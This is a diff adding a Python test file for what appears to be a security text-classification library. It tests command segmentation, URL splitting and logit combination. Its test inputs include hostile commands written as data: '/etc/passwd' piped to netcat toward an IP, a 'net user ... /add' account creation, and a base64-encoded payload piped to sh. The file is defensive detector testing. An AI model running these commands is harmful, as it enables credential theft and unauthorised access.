@@ -1,0 +1,117 @@
+"""Segments: what is cut where, and that the kernel combines scores as NumPy does."""
+
+import numpy as np
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from buckler import _kernel
+from buckler.normalize import NormalizedTexts, get_normalizer
+from buckler.normalize.segments import COMBINATIONS, SEGMENTERS, SegmentRule
+
+
+def cut(text: bytes, segmenter: str) -> list[bytes]:
+    return list(SegmentRule(segmenter, "max").cut(NormalizedTexts.from_bytes([text])).texts)
+
+
+def cut_command(command: str) -> list[bytes]:
+    return cut(get_normalizer("command-v2").normalize(command, 4096), "commands")
+
+
+@pytest.mark.parametrize(
+    ("command", "segments"),
+    [
+        ("apt-get update && rm -rf /tmp/x", [b"apt-get update", b"rm -rf /tmp/x"]),
+        ("dir c:\\temp || echo nothing", [b"dir c:\\temp", b"echo nothing"]),
+        ("cat /etc/passwd | nc 10.1.2.3 80; whoami", None),
+        ("make all 2>&1 > build.log", [b"make all 2>&1 > build.log"]),
+        ("make all &> build.log", [b"make all &> build.log"]),
+        ("ls;ls;ls;net user eve /add", [b"ls;ls;ls", b"net user eve /add"]),
+        ("; ; && ", []),
+        ("", []),
+    ],
+)
+def test_commands_are_cut_where_a_shell_ends_them(command, segments):
+    found = cut_command(command)
+    if segments is None:
+        assert len(found) == 3
+        assert found[-1] == b"whoami"
+    else:
+        assert found == segments
+
+
+def test_a_decoded_payload_is_a_command_of_its_own():
+    segments = cut_command("echo bmV0IHVzZXIgZXZlIFB3ITIgL2FkZCAmJiBuZXQgdmlldw== | base64 -d | sh")
+    assert {b"net user eve pw!2 /add", b"net view"} <= set(segments)
+
+
+def test_context_is_in_no_segment():
+    assert cut_command("whoami\x1fwinword.exe\x1fcmd.exe\x1fSYSTEM") == [b"whoami"]
+
+
+def test_long_texts_are_cut_into_windows_at_spaces():
+    words = b"subject\x1f" + b" ".join(b"word%d" % i for i in range(400))
+    segments = cut(words, "windows")
+    assert segments[0] == b"subject"
+    assert all(segment.startswith(b"\x1f") and len(segment) <= 513 for segment in segments[1:])
+    assert b" ".join(segment[1:] for segment in segments[1:]) == words.partition(b"\x1f")[2]
+    assert [len(s) for s in cut(b"x" * 1200, "windows")] == [512, 512, 176]
+    assert max(map(len, cut_command("x" * 3000))) == 512
+
+
+def test_host_and_path_of_an_address_are_apart():
+    address = get_normalizer("url-v2").normalize("https://a.example/b/c.php?d=1", 768)
+    assert cut(address, "host-path") == [b"a.example", b"\x1fb/c.php\x1fd=1"]
+    assert cut(get_normalizer("url-v2").normalize("https://a.example", 768), "host-path")[0] == (
+        b"a.example"
+    )
+
+
+def test_nothing_is_cut_without_a_rule():
+    assert cut(b"a && b", "none") == []
+
+
+@given(st.lists(st.binary(max_size=1500), max_size=4), st.sampled_from(SEGMENTERS))
+def test_segments_are_pieces_of_their_texts_in_order(raw, segmenter):
+    texts = NormalizedTexts.from_bytes(raw)
+    segments = SegmentRule(segmenter, "max").cut(texts)
+    last = (0, 0)
+    for segment, owner, shift in zip(segments.texts, segments.owners, segments.shifts, strict=True):
+        field = len(segment) - len(segment.lstrip(b"\x1f"))
+        begin = int(shift) + field
+        assert texts[owner][begin : int(shift) + len(segment)] == segment[field:]
+        assert (int(owner), begin) >= last
+        last = (int(owner), begin + 1)
+        assert field < 8
+        assert len(segment) > field
+
+
+@pytest.mark.parametrize("classes", [1, 3])
+@pytest.mark.parametrize("combination", COMBINATIONS)
+@given(st.lists(st.binary(max_size=900), min_size=1, max_size=4))
+def test_the_kernel_combines_the_logits_of_text_and_worst_segment(classes, combination, raw):
+    rng = np.random.default_rng(7)
+    width = 1 if classes == 1 else 16
+    table = rng.integers(-127, 128, (1 << 10, width)).astype(np.int8)
+    bias = rng.standard_normal(classes).astype(np.float32)
+
+    def outputs(texts: NormalizedTexts, *settings: int) -> np.ndarray:
+        model = _kernel.Ngram(
+            0, 1 << 12, 1, 4, 10, width, classes, 0.01, table, None, bias, *settings
+        )
+        column = texts.to_arrow()
+        found = np.empty((len(texts), classes), np.float32)
+        model.score_column(*column.__arrow_c_array__(), 0, len(texts), found, True)
+        return found
+
+    for segmenter in SEGMENTERS[1:]:
+        texts, rule = NormalizedTexts.from_bytes(raw), SegmentRule(segmenter, combination, 2)
+        expected = rule.event_logits(texts, outputs)
+        assert np.array_equal(outputs(texts, *rule.numbers), expected)
+
+
+def test_a_model_without_a_positive_class_combines_nothing():
+    table, bias = np.zeros(1 << 4, np.int8), np.zeros(1, np.float32)
+    for settings in [(1, 1, 0), (0, 1, 2), (9, 1, 2), (1, 9, 2)]:
+        with pytest.raises(ValueError, match=r"segment"):
+            _kernel.Ngram(0, 512, 1, 3, 4, 1, 1, 0.1, table, None, bias, *settings)
